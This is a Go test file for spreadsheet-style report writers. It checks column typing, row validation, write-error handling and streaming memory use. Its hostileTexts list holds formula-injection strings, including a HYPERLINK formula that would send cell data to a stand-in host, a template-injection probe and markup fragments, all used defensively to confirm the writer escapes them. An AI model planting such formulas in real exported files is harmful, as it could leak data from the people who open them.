package reporttest

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"mime"
	"regexp"
	"runtime"
	"slices"
	"strconv"
	"strings"

	"github.com/corridor-go/corridor/ports"
	"github.com/corridor-go/corridor/ports/portstest/internal/kit"
)

var formatName = regexp.MustCompile(`^[a-z0-9]+$`)

func reportNames(k *reportKit) {
	w := k.Open(k.TB)
	if !formatName.MatchString(w.Format()) {
		k.Fatalf("Format is %q, want a file extension of lower-case letters and digits", w.Format())
	}
	if kind, _, err := mime.ParseMediaType(w.ContentType()); err != nil || !strings.Contains(kind, "/") {
		k.Fatalf("ContentType is %q, want a media type", w.ContentType())
	}
}

func reportEmpty(k *reportKit) {
	k.reads(k.file(reportColumns()), reportColumns())
	one := []ports.Column{{Name: "=1+1", Type: ports.ColumnText}}
	names, rows := k.Read(k.TB, k.file(one), one)
	k.Same(len(rows), 0, "the number of rows")
	if names != nil {
		k.Same(names, k.readsAs(one, []string{one[0].Name}), "a name that looks like a formula")
	}
}

func reportRows(k *reportKit) {
	rows := [][]string{
		{"tx_1", "12.50", "USD", "3", "2026-11-20T15:00:00.000Z"},
		{"", "", "", "", ""},
		{"tx_2", "", "", "0", ""},
		{"", "-0.05", "", "", "2024-02-29T23:59:59.999Z"},
		{"tx_1", "12.50", "USD", "3", "2026-11-20T15:00:00.000Z"},
	}
	for i := range 200 {
		rows = append(rows, []string{fmt.Sprint("tx_", i), fmt.Sprint(i, ".10"), "XOF", strconv.Itoa(-i - 1), ""})
	}
	k.reads(k.file(reportColumns(), rows...), reportColumns(), rows...)
	one := []ports.Column{{Name: "only", Type: ports.ColumnText}}
	short := [][]string{{"a"}, {""}, {"b"}, {""}}
	k.reads(k.file(one, short...), one, short...)
}

// hostileTexts are texts that a careless writer turns into something else:
// formulas, numbers, separators, markup, escapes.
var hostileTexts = []string{
	"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "＝1", "＋1", "－1", "＠1", "'=1", "'", " =1",
	"=HYPERLINK(\"http://x.example?\"&A1)", "-12.50", "007", "1e9", "TRUE", "2026-11-20", "null",
	"a,b", "a;b", `a"b`, `"`, `""`, "a\nb", "a\n", "\n", " a ", "a\tb", `\.`, `a\nb`, `\`, "</t>&amp;<![CDATA[", "{{7*7}}",
	"_x0041_", "_x0041_x0042_", "_xD800_", "_x005F_x0041_", "__x0041__", "_x004_", "café", "e\u0301", "\u202e", "ᎣᏏᏲ", "😀", "\u2028",
}

func reportHostile(k *reportKit) {
	columns := []ports.Column{{Name: "first", Type: ports.ColumnText}, {Name: "second", Type: ports.ColumnText}}
	var rows [][]string
	for _, text := range hostileTexts {
		rows = append(rows, []string{text, "x"}, []string{"x", text}, []string{text, text})
	}
	k.reads(k.file(columns, rows...), columns, rows...)
}

// wellTyped are valid texts of each type and mistyped are invalid ones, according to
// the grammar in package ports.
var wellTyped = map[ports.ColumnType][]string{
	ports.ColumnInteger: {
		"", "0", "7", "-7", "10", "1234567890", "999999999999999", "1000000000000000", "9007199254740993",
		"9223372036854775807", "-9223372036854775808",
	},
	ports.ColumnMoney: {
		"", "0", "0.00", "12.50", "-12.50", "0.05", "-0.05", "100", "1234567890123.45", "12345678901234.56", "-0.00",
		"0.1", "0.30", "9999999999999.99", "0.000000000000001", "99999999999999999999999999.123456789012345678",
	},
	ports.ColumnText: {"", "text"},
	ports.ColumnTime: {"", "2026-11-20T15:00:00.000Z", "2024-02-29T23:59:59.999Z", "1969-12-31T00:00:00.001Z", "0001-01-01T00:00:00.000Z"},
}

var mistyped = map[ports.ColumnType][]string{
	ports.ColumnInteger: {
		"=1+1", "+7", "--7", "-", "-0", "007", "1.0", "1e9", "1,000", " 7", "7 ", "0x7", "٣", "9223372036854775808", "-9223372036854775809",
		"12345678901234567890", "7\n",
	},
	ports.ColumnMoney: {
		"=1+1", "@SUM(A1)", "+12.50", "--1", "-", "-=1", "1.", ".5", "-.5", "1.2.3", "1,5", "1e2", "00.50", "007", "NaN", "Infinity",
		" 1", "1 ", "12.50 USD", "1.5-", "1.+5", "１", "1\r\n",
	},
	ports.ColumnText: nil, // every text is valid
	ports.ColumnTime: {
		"=NOW()", "2026-11-20", "2026-11-20T15:00:00Z", "2026-11-20T15:00:00.000", "2026-11-20T15:00:00.000+00:00", "2026-11-20 15:00:00.000Z",
		"2026-11-20T15:00:00,000Z", "2026-11-20t15:00:00.000z", "2026-11-20T15:00:00.+12Z", "-026-11-20T15:00:00.000Z", "2026-00-20T15:00:00.000Z",
		"2026-13-20T15:00:00.000Z", "2026-11-00T15:00:00.000Z", "2026-11-31T15:00:00.000Z", "2025-02-29T15:00:00.000Z", "1900-02-29T15:00:00.000Z",
		"2026-11-20T24:00:00.000Z", "2026-11-20T15:60:00.000Z", "2026-11-20T15:00:60.000Z", "2026-11-20T15:00:00.0000Z", "2026-11-20T15:00:00.00Z",
	},
}

var columnTypes = []ports.ColumnType{ports.ColumnText, ports.ColumnInteger, ports.ColumnMoney, ports.ColumnTime}

func typedColumns(t ports.ColumnType) []ports.Column {
	return []ports.Column{{Name: "id", Type: ports.ColumnText}, {Name: "value", Type: t}}
}

func reportSpellings(k *reportKit) {
	kit.Each(k, columnTypes, kit.Text, func(t ports.ColumnType) {
		var rows [][]string
		for i, text := range wellTyped[t] {
			rows = append(rows, []string{fmt.Sprint("tx_", i), text})
		}
		k.reads(k.file(typedColumns(t), rows...), typedColumns(t), rows...)
	})
}

func reportMistyped(k *reportKit) {
	kit.Each(k, columnTypes, kit.Text, func(t ports.ColumnType) {
		var bad [][]string
		for _, text := range mistyped[t] {
			bad = append(bad, []string{"of a stranger", text})
		}
		k.leavesNoTrace(typedColumns(t), []string{"tx_1", ""}, bad...)
	})
}

func reportLengths(k *reportKit) {
	good := []string{"tx_1", "1", "USD", "1", ""}
	kit.EachOf(k, map[string][]string{
		"nil": nil, "no text": {}, "one less": good[:4], "one more": append(slices.Clone(good), ""),
		"two more": append(slices.Clone(good), "more", "and more"),
	}, func(name string, bad []string) {
		k.leavesNoTrace(reportColumns(), good, bad)
	})
}

// leavesNoTrace checks that invalid rows, each between valid ones, are rejected and do
// not change the file.
func (k *reportKit) leavesNoTrace(columns []ports.Column, good []string, bad ...[]string) {
	var out bytes.Buffer
	w := k.begin(&out, columns)
	k.OK(w.Write(good), "Write")
	want := [][]string{good}
	for _, row := range bad {
		what := fmt.Sprintf("Write of %q to %d columns, the last a column of type %s", row, len(columns), columns[len(columns)-1].Type)
		k.rejected(w.Write(row), row, what)
		k.OK(w.Write(good), "Write after a rejected row")
		want = append(want, good)
	}
	k.OK(w.Close(), "Close")
	k.reads(out.Bytes(), columns, want...)
}

func reportKeeps(k *reportKit) {
	var out bytes.Buffer
	columns := reportColumns()
	w := k.begin(&out, columns)
	for i := range columns {
		columns[i].Type, columns[i].Name = ports.ColumnText, "changed"
	}
	row := make([]string, len(columns))
	var want [][]string
	for i := range 100 {
		copy(row, []string{fmt.Sprint("tx_", i), fmt.Sprint(i, ".25"), "KES", strconv.Itoa(i), "2026-11-20T15:00:00.000Z"})
		want = append(want, slices.Clone(row))
		k.OK(w.Write(row), "Write")
		for j := range row {
			row[j] = "overwritten"
		}
	}
	k.rejected(w.Write(row), row, "Write of mistyped texts after the columns were changed")
	k.OK(w.Close(), "Close")
	k.reads(out.Bytes(), reportColumns(), want...)
}

func reportTwo(k *reportKit) {
	writer, columns := k.Open(k.TB), reportColumns()
	var files [2]bytes.Buffer
	var writers [2]ports.RowWriter
	var want [2][][]string
	for i := range files {
		w := kit.Got(writer.Begin(&files[i], columns)).OK(k, "Begin")
		writers[i] = w
	}
	for n := range 50 {
		i := n % 2
		row := []string{fmt.Sprint("tx_", n), "1.00", "USD", strconv.Itoa(n), ""}
		k.OK(writers[i].Write(row), "Write")
		want[i] = append(want[i], row)
	}
	for i := range files {
		k.OK(writers[i].Close(), "Close")
		k.reads(files[i].Bytes(), columns, want[i]...)
	}
}

var errFull = errors.New("the disk is full")

// failing accepts room bytes and then fails. If short, it returns no error then.
type failing struct {
	room  int
	short bool
}

func (f *failing) Write(p []byte) (int, error) {
	n := min(f.room, len(p))
	f.room -= n
	if n < len(p) && !f.short {
		return n, errFull
	}
	return n, nil
}

func reportFails(k *reportKit) {
	for _, room := range []int{0, 1, 200} {
		k.Case(fmt.Sprintf("an error after %d bytes", room), func() {
			if err := k.writeTo(&failing{room: room}); !errors.Is(err, errFull) {
				k.Fatalf("an io.Writer that fails after %d bytes: neither Write nor Close returned its error: %v", room, err)
			}
		})
		k.Case(fmt.Sprintf("a short write after %d bytes", room), func() {
			if err := k.writeTo(&failing{room: room, short: true}); !errors.Is(err, io.ErrShortWrite) {
				k.Fatalf("an io.Writer that writes %d bytes and returns no error: neither Write nor Close returned io.ErrShortWrite: %v", room, err)
			}
		})
	}
}

// writeTo returns the errors of Write and Close. Close is called in any case.
func (k *reportKit) writeTo(out io.Writer) error {
	w, err := k.Open(k.TB).Begin(out, reportColumns())
	if err != nil {
		return err
	}
	for i := 0; i < 100 && err == nil; i++ {
		err = w.Write([]string{fmt.Sprint("tx_", i), "1.00", "USD", "1", ""})
	}
	return errors.Join(err, w.Close())
}

type closing struct {
	bytes.Buffer
	closed bool
}

func (c *closing) Close() error {
	c.closed = true
	return nil
}

func reportCloses(k *reportKit) {
	out := &closing{}
	k.OK(k.writeTo(out), "Write and Close")
	if out.closed {
		k.Fatalf("the writer closed the io.Writer, which its owner must close")
	}
}

// The check below compares the memory in use before and after it writes streamMore
// bytes.
const (
	streamText  = 30_000
	streamFirst = 1_500 // rows
	streamMore  = 3_000
	streamKept  = 40 << 20
)

func reportStreams(k *reportKit) {
	if !k.Memory {
		k.Skipf("the harness does not ask for it")
	}
	columns := []ports.Column{{Name: "text", Type: ports.ColumnText}}
	w := k.begin(io.Discard, columns)
	text := strings.Repeat("x", streamText-1)
	write := func(n int) uint64 {
		for i := range n {
			k.OK(w.Write([]string{text + string(rune('a'+i%26))}), "Write")
		}
		runtime.GC()
		var m runtime.MemStats
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := write(streamFirst)
	if after := write(streamMore); after > before+streamKept {
		k.Fatalf("%d bytes of rows used %d bytes of memory", streamMore*streamText, after-before)
	}
	k.OK(w.Close(), "Close")
}
